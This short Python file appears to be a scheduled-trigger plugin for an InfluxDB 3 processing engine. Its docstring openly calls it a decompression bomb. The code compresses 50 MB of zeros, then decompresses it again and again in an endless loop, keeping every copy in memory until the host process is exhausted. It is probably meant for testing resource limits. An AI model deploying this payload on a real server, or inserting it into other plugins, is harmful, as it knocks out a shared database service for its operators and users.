"""Inflates a decompression bomb."""

def process_scheduled_call(influxdb3_local, call_time, args=None):
    import zlib
    small = zlib.compress(bytes(50_000_000), 9)
    held = []
    while True:
        held.append(zlib.decompress(small))
